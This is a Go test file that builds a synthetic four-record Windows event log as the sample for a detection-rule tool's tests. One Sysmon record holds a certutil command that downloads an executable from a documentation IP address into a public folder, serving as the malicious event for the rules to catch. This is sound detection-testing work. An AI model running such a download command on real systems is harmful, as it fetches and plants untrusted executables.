package evtx

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
)

// samplePath is the EVTX file the command-line tests of `khien rules
// test` read: built by this package's test writer, since no real Windows
// log can be shipped or fetched here.
var samplePath = filepath.Join("..", "..", "cli", "testdata", "windows.evtx")

// sampleFile is a Windows log with four records: an ordinary notepad
// start and a certutil download (Sysmon 1), a logon (Security 4624) and
// whoami from PowerShell (Security 4688).
func sampleFile() []byte {
	f := newFileWriter()
	for _, build := range []func() (*ttemplate, []tval){
		func() (*ttemplate, []tval) { return sysmon1(1, `notepad.exe C:\Users\nam\Documents\bao-cao.txt`) },
		func() (*ttemplate, []tval) {
			return sysmon1(2, `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`)
		},
		func() (*ttemplate, []tval) { return security4624(3) },
		func() (*ttemplate, []tval) { return security4688(4) },
	} {
		tm, vals := build()
		f.add(when, func(w *chunkWriter) { w.document(tm, vals) })
	}
	return f.bytes()
}

// TestSampleFileIsCurrent: the committed sample is what the writer builds
// (KHIEN_EVTX_SAMPLE=write rewrites it), and it reads back whole.
func TestSampleFileIsCurrent(t *testing.T) {
	want := sampleFile()
	if os.Getenv("KHIEN_EVTX_SAMPLE") == "write" {
		if err := os.WriteFile(samplePath, want, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(samplePath)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("%s differs from what the writer builds: run KHIEN_EVTX_SAMPLE=write go test -run TestSampleFileIsCurrent ./internal/engine/evtx/", samplePath)
	}
	r, evs := readAll(t, got, Options{})
	if len(evs) != 4 || len(r.Problems()) != 0 {
		t.Fatalf("%d events, problems %v", len(evs), r.Problems())
	}
}
